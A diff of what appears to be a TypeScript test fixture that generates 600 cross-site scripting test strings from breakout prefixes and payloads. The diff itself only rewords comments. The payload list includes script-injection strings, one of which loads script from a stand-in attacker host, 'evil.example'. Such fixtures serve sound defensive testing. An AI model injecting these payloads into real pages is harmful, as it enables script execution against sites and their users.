@@ -1,4 +1,4 @@
-/** What tries to leave the place that a text stands in. */
+/** Prefixes that would end the context of a text. */
 const breakouts = [
   "",
   '">',
@@ -27,7 +27,7 @@ const breakouts = [
   "=",
 ];
 
-/** What it would do there; each one shows itself as a dialog or a report when it succeeds. */
+/** Payloads; each one shows a dialog or a report if it executes. */
 const payloads = [
   "<script>alert(1)</script>",
   "<script src=//evil.example/a.js></script>",
@@ -56,7 +56,7 @@ const payloads = [
 ];
 
 /**
- * 600 texts that would harm a page in which they are anything but text: every breakout before every
+ * 600 texts that would harm a page that does not treat them as text: every breakout before every
  * payload. None of them is an email address, a date, or a number without a symbol.
  */
 export const hostileTexts: readonly string[] = breakouts.flatMap((breakout) =>
@@ -64,7 +64,7 @@ export const hostileTexts: readonly string[] = breakouts.flatMap((breakout) =>
 );
 
 /**
- * A part of them, in which every breakout and every payload stands.
+ * A part of them that contains every breakout and every payload.
  * @param number which part, from 0; it goes round
  * @param of how many parts there are, at most 24
  */
